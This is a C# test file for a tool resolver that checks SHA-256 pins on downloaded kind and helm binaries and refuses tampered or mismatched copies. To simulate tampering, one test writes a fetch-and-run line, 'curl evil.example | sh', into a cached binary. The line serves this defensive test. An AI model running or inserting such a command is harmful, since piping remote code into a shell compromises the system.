using System.Formats.Tar;
using System.IO.Compression;
using System.Net;
using System.Security.Cryptography;
using System.Text;
using FluentAssertions;
using InferenceBox.Specs.Support.Tools;
using Xunit;

namespace InferenceBox.Specs.Tests.Provisioning;

public sealed class ToolResolverTests : IDisposable
{
    private readonly string _dir = Directory.CreateTempSubdirectory("ibx-tools-").FullName;
    private readonly FakeHandler _handler = new();
    private readonly FakeProbe _probe = new();
    private static readonly byte[] KindBinary = Encoding.ASCII.GetBytes("#!/bin/sh\necho kind v0.29.0\n");

    private ToolResolver Resolver(string? searchPath = "") =>
        new(Path.Combine(_dir, "cache"), new HttpClient(_handler), _probe, TimeSpan.FromSeconds(5), "linux-amd64", searchPath);

    private static ToolPin Kind(string? sha) => new("kind", "v0.29.0", "https://kind.sigs.k8s.io/dl/{version}/kind-{os}-{arch}",
        sha is null ? new Dictionary<string, string>() : new Dictionary<string, string> { ["linux-amd64"] = sha });

    private static string Sha(byte[] bytes) => Convert.ToHexStringLower(SHA256.HashData(bytes));

    [Fact]
    public async Task A_verified_download_is_installed_once_and_the_cache_is_reused()
    {
        _handler.Body = KindBinary;
        var resolver = Resolver();

        var first = await resolver.ResolveAsync(Kind(Sha(KindBinary)), CancellationToken.None);
        var second = await resolver.ResolveAsync(Kind(Sha(KindBinary)), CancellationToken.None);

        first.Should().Be(Path.Combine(_dir, "cache", "kind", "v0.29.0", "kind")).And.Be(second);
        File.ReadAllBytes(first).Should().Equal(KindBinary);
        _handler.Requests.Should().Equal("https://kind.sigs.k8s.io/dl/v0.29.0/kind-linux-amd64");
        if (!OperatingSystem.IsWindows()) File.GetUnixFileMode(first).Should().HaveFlag(UnixFileMode.UserExecute);
    }

    [Fact]
    public async Task A_tampered_download_is_refused_and_deleted()
    {
        _handler.Body = Encoding.ASCII.GetBytes("evil");

        var act = () => Resolver().ResolveAsync(Kind(Sha(KindBinary)), CancellationToken.None);

        (await act.Should().ThrowAsync<ToolUnavailableException>()).WithMessage($"*SHA-256 {Sha(_handler.Body)}*lock expects {Sha(KindBinary)}*deleted*");
        Directory.EnumerateFiles(Path.Combine(_dir, "cache"), "*", SearchOption.AllDirectories).Should().BeEmpty();
    }

    [Fact]
    public async Task A_lock_without_a_checksum_for_this_platform_is_refused_before_downloading()
    {
        var act = () => Resolver().ResolveAsync(Kind(null), CancellationToken.None);

        (await act.Should().ThrowAsync<ToolUnavailableException>()).WithMessage("*no tools.kind.sha256.linux-amd64*install kind v0.29.0 on PATH*");
        _handler.Requests.Should().BeEmpty();
    }

    [Fact]
    public async Task Offline_gives_a_clear_error()
    {
        _handler.Offline = true;

        var act = () => Resolver().ResolveAsync(Kind(Sha(KindBinary)), CancellationToken.None);

        (await act.Should().ThrowAsync<ToolUnavailableException>()).WithMessage("*could not download https://kind.sigs.k8s.io/*offline?*");
    }

    [Fact]
    public async Task The_PATH_copy_is_used_when_its_version_matches_and_ignored_when_it_does_not()
    {
        var bin = Directory.CreateDirectory(Path.Combine(_dir, "bin")).FullName;
        File.WriteAllText(Path.Combine(bin, "kind"), "");
        _handler.Body = KindBinary;

        _probe.Version = "v0.29.0";
        (await Resolver(bin).ResolveAsync(Kind(Sha(KindBinary)), CancellationToken.None)).Should().Be(Path.Combine(bin, "kind"));
        _handler.Requests.Should().BeEmpty();

        _probe.Version = "v0.20.0";
        (await Resolver(bin).ResolveAsync(Kind(Sha(KindBinary)), CancellationToken.None)).Should().StartWith(Path.Combine(_dir, "cache"));
        _handler.Requests.Should().HaveCount(1);
    }

    // Issue 19 item 12: a version string is a claim, the bytes are the fact.
    [Fact]
    public async Task A_PATH_copy_that_reports_the_pinned_version_but_is_not_the_pinned_binary_is_not_used()
    {
        var bin = Directory.CreateDirectory(Path.Combine(_dir, "bin")).FullName;
        File.WriteAllText(Path.Combine(bin, "kind"), "#!/bin/sh\necho kind v0.29.0 # and something else\n");
        _probe.Version = "v0.29.0";
        _handler.Body = KindBinary;

        var path = await Resolver(bin).ResolveAsync(Kind(Sha(KindBinary)), CancellationToken.None);

        path.Should().Be(Path.Combine(_dir, "cache", "kind", "v0.29.0", "kind"));
        File.ReadAllBytes(path).Should().Equal(KindBinary);
    }

    [Fact]
    public async Task A_cached_binary_changed_after_it_was_verified_is_refused()
    {
        _handler.Body = KindBinary;
        var cached = await Resolver().ResolveAsync(Kind(Sha(KindBinary)), CancellationToken.None);
        File.WriteAllText(cached, "#!/bin/sh\necho kind v0.29.0\ncurl evil.example | sh\n");

        var act = () => Resolver().ResolveAsync(Kind(Sha(KindBinary)), CancellationToken.None);

        (await act.Should().ThrowAsync<ToolUnavailableException>()).WithMessage($"*{cached}*SHA-256*{Sha(KindBinary)}*");
    }

    [Fact]
    public async Task A_tar_gz_release_is_verified_then_its_binary_extracted()
    {
        _handler.Body = HelmArchive("#!/bin/sh\necho v3.18.3\n");
        var pin = new ToolPin("helm", "v3.18.3", "https://get.helm.sh/helm-{version}-{os}-{arch}.tar.gz",
            new Dictionary<string, string> { ["linux-amd64"] = Sha(_handler.Body) });

        var path = await Resolver().ResolveAsync(pin, CancellationToken.None);

        File.ReadAllText(path).Should().Contain("v3.18.3");
        _handler.Requests.Should().Equal("https://get.helm.sh/helm-v3.18.3-linux-amd64.tar.gz");
    }

    [Theory]
    [InlineData("kind v0.29.0 go1.24.2 linux/amd64", "v0.29.0")]
    [InlineData("v3.18.3+g6838ebc", "v3.18.3")]
    [InlineData("Client Version: v1.33.1\nKustomize Version: v5.6.0", "v1.33.1")]
    public void Versions_are_read_from_each_tools_own_output(string output, string expected) =>
        CliToolVersionProbe.ParseVersion(output).Should().Be(expected);

    private static byte[] HelmArchive(string content)
    {
        using var buffer = new MemoryStream();
        using (var gz = new GZipStream(buffer, CompressionLevel.Fastest, leaveOpen: true))
        using (var tar = new TarWriter(gz))
        {
            tar.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, "linux-amd64/README.md") { DataStream = new MemoryStream("x"u8.ToArray()) });
            tar.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, "linux-amd64/helm") { DataStream = new MemoryStream(Encoding.ASCII.GetBytes(content)) });
        }
        return buffer.ToArray();
    }

    public void Dispose() => Directory.Delete(_dir, recursive: true);

    private sealed class FakeHandler : HttpMessageHandler
    {
        public byte[] Body { get; set; } = [];
        public bool Offline { get; set; }
        public List<string> Requests { get; } = [];

        protected override Task<HttpResponseMessage> SendAsync(HttpRequestMessage request, CancellationToken ct)
        {
            if (Offline) throw new HttpRequestException("Name or service not known (kind.sigs.k8s.io:443)");
            Requests.Add(request.RequestUri!.ToString());
            return Task.FromResult(new HttpResponseMessage(HttpStatusCode.OK) { Content = new ByteArrayContent(Body) });
        }
    }

    private sealed class FakeProbe : IToolVersionProbe
    {
        public string? Version { get; set; }
        public Task<string?> VersionAsync(string executable, string tool, CancellationToken ct) => Task.FromResult(Version);
    }
}
